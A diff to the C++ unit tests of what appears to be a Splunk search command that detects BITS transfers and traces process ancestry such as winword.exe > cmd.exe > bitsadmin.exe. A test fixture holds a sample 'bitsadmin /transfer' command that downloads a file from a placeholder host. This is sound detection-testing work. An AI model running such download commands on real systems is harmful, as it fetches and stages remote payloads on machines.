@@ -13,17 +13,18 @@ namespace {
 using splunk::chunked::CommandType;
 using Words = CommandRun::Words;
 
-const std::string kHeader = "dest,_time,process_id,process_name,parent_process_id,process\n";
-const std::string kRoot = "h,10,1,winword.exe,,x.doc\n";
-const std::string kShell = "h,20,2,cmd.exe,1,cmd\n";
+const std::string kHeader =
+    "dest,_time,process_id,process_name,parent_process_id,parent_process_name,process\n";
+const std::string kRoot = "h,10,1,winword.exe,,,x.doc\n";
+const std::string kShell = "h,20,2,cmd.exe,1,winword.exe,cmd\n";
 const std::string kTransfer =
-    "h,30,3,bitsadmin.exe,2,\"bitsadmin /transfer j https://h.example/a C:\\a\"\n";
+    "h,30,3,bitsadmin.exe,2,cmd.exe,\"bitsadmin /transfer j https://h.example/a C:\\a\"\n";
 
 bool contains(std::string_view text, std::string_view part) {
   return text.find(part) != std::string_view::npos;
 }
 
-std::string without_spaces_of_quotes(std::string text) {
+std::string without_quotes(std::string text) {
   text.erase(std::remove(text.begin(), text.end(), '"'), text.end());
   return text;
 }
@@ -51,10 +52,9 @@ TEST(LineageCommand, InlineAnswersWhenAllHasCome) {
   CommandRun run({"lineage=inline"});
   EXPECT_EQ(run.chunk(kHeader + kTransfer, false), "");
   EXPECT_EQ(run.chunk(kHeader + kRoot, false), "");
-  const std::string out = without_spaces_of_quotes(run.chunk(kHeader + kShell, true));
+  const std::string out = without_quotes(run.chunk(kHeader + kShell, true));
   EXPECT_TRUE(contains(out, "winword.exe > cmd.exe > bitsadmin.exe")) << out;
   EXPECT_TRUE(contains(out, "office-ancestor")) << out;
-  EXPECT_EQ(std::count(out.begin(), out.end(), '\n') > 1, true);
   EXPECT_EQ(run.command().rows(), 3U);
   EXPECT_EQ(run.command().matches(), 1U);
   EXPECT_TRUE(run.warnings.empty());
@@ -86,7 +86,7 @@ TEST(LineageCommand, AnnotateKeepsAllRowsAndSaysNothingOfThoseThatDoNotMatch) {
   const std::size_t second = out.find('\n') + 1;
   const std::string row = out.substr(second, out.find('\n', second) - second);
   // bits_match, bits_pattern and its companion, and the columns of lineage with theirs.
-  EXPECT_EQ(row, "h,20,2,cmd.exe,1,cmd,0,," + std::string(17, ','));
+  EXPECT_EQ(row, "h,20,2,cmd.exe,1,winword.exe,cmd,0,," + std::string(17, ','));
 }
 
 // Rows that replace the search's own have no number in it.
@@ -110,9 +110,9 @@ TEST(LineageCommand, UsedTwiceHasItsColumnsOnceAndWithLineageOffKeepsThem) {
 
 TEST(LineageCommand, WhenTheTableIsFullRowsAndRecordedParentsRemain) {
   CommandRun run({"lineage=inline", "maxprocesses=2"});
-  const std::string out = without_spaces_of_quotes(run.chunk(
-      "parent_process_name," + kHeader + "," + kRoot + "," + kShell + "sh.exe," + kTransfer, true));
-  EXPECT_TRUE(contains(out, "sh.exe > bitsadmin.exe")) << out;
+  const std::string out = without_quotes(run.chunk(kHeader + kRoot + kShell + kTransfer, true));
+  EXPECT_TRUE(contains(out, "cmd.exe > bitsadmin.exe")) << out;
+  EXPECT_FALSE(contains(out, "winword")) << out;
   ASSERT_EQ(run.warnings.size(), 1U);
   EXPECT_TRUE(run.warnings[0].starts_with(
       "bitsmatch has room for 2 of 3 process rows; lineage is taken from the first 2."))
@@ -145,11 +145,9 @@ TEST(LineageCommand, TellsAProgramOfEachMatchInOrder) {
 
 TEST(LineageCommand, SearchWithoutSplunkdSaysSoAndNamesWhatIsRecorded) {
   CommandRun run({"lineage=search"});
-  const std::string named = "parent_process_name," + kHeader;
-  const std::string out = without_spaces_of_quotes(
-      run.chunk(named + "winword.exe," + kShell + "sh.exe," + kTransfer, true));
-  EXPECT_TRUE(contains(out, "sh.exe > bitsadmin.exe"))
-      << "rows that don't match are not the data: " << out;
+  const std::string out = without_quotes(run.chunk(kHeader + kShell + kTransfer, true));
+  EXPECT_TRUE(contains(out, "cmd.exe > bitsadmin.exe")) << out;
+  EXPECT_FALSE(contains(out, "winword")) << "rows that don't match are not the data: " << out;
   ASSERT_EQ(run.warnings.size(), 1U);
   EXPECT_TRUE(contains(run.warnings[0], "has no splunkd to ask"));
 }
